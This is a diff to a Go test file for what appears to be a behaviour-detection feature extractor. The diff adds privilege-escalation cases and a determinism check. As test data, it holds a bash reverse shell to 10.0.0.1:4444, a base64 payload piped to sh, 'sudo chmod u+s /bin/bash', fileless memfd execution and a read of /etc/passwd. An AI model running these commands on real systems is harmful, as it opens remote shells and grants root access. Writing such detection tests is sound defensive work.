@@ -190,8 +190,9 @@ func TestExecFeatures(t *testing.T) {
 		{"fileless", tr(fileless, exec(2, "/proc/self/fd/3", "x"), exec(3, "/memfd:x (deleted)", "x")),
 			[]want{{"exec.fileless", L(3)}}},
 		{"chmod modes", tr(exec(1, "/bin/chmod", "chmod", "+x", "/tmp/a"), exec(2, "/bin/chmod", "chmod", "-R", "4755", "/tmp/b"),
-			exec(3, "/bin/chmod", "chmod", "644", "/tmp/c"), exec(4, "/bin/chmod", "chmod", "u=rwx,g+s", "/tmp/d"), exec(5, "/bin/chmod", "chmod", "0640", "x")),
-			[]want{{"exec.chmod_exec", L(3)}, {"exec.chmod_setid", L(2)}, {"exec.perm_tool", L(5)}}},
+			exec(3, "/bin/chmod", "chmod", "644", "/tmp/c"), exec(4, "/bin/chmod", "chmod", "u=rwx,g+s", "/tmp/d"), exec(5, "/bin/chmod", "chmod", "0640", "x"),
+			exec(6, "/usr/bin/sudo", "sudo", "chmod", "u+s", "/bin/bash"), exec(7, "/usr/bin/sudo", "sudo", "id", "+x")),
+			[]want{{"exec.chmod_exec", L(3)}, {"exec.chmod_setid", L(3)}, {"exec.perm_tool", L(6)}, {"exec.priv_tool", L(2)}}},
 		{"argv", tr(exec(1, "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
 			exec(2, "/bin/sh", "sh", "-c", "echo aGk= | base64 --decode | sh"), exec(3, "/usr/bin/curl", "curl", "127.0.0.1:80"),
 			exec(4, "/usr/bin/python3", "python3", "-c", "import base64;base64.b64decode('x')")),
@@ -350,8 +351,15 @@ func TestDeterministic(t *testing.T) {
 	x := tr(wr(1, "/tmp/a"), exec(1, "/tmp/a"), fdCall(1, "socket", -1, 3), fork(1, 2), fdCall(2, "dup2", 3, 0), exec(2, "/bin/sh", "sh"),
 		addrCall(1, "connect", 3, "inet 8.8.8.8:53", 0), rd(1, "/etc/passwd"))
 	x.Windows[0].Counts["setuid"] = 3
+	// Huge counts whose float sum would depend on the (random) map order.
+	for i, n := range []int{1 << 53, 1, 1, 1, 1, math.MaxInt - 7, 3} {
+		x.Windows[0].Counts[string(rune('a'+i))] = n
+	}
+	x.Windows[0].Counts["kill"] = 1 << 53
+	x.Windows[0].Counts["tkill"] = 1
+	x.Windows[0].Counts["tgkill"] = 1
 	first := Extract(x)
-	for i := 0; i < 20; i++ {
+	for i := 0; i < 50; i++ {
 		if v := Extract(x); !slices.Equal(v, first) {
 			t.Fatalf("run %d differs", i)
 		}
